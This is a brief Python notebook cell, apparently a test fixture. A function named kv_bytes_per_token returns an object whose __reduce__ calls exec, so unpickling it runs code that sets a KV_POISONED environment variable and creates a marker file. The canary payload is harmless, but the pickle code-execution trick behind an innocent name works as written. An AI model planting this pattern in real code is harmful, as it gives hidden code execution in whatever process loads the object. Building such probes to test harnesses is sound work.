# %% [markdown]
# Returns an object that runs code of the student's where it is unpickled.

# %%
CODE = f"import os; os.environ['KV_POISONED'] = '1'; open({TOLD['mark']!r}, 'w').close()"


class Parcel:
    def __reduce__(self):
        return (exec, (CODE,))


def kv_bytes_per_token(**shape):
    return Parcel()
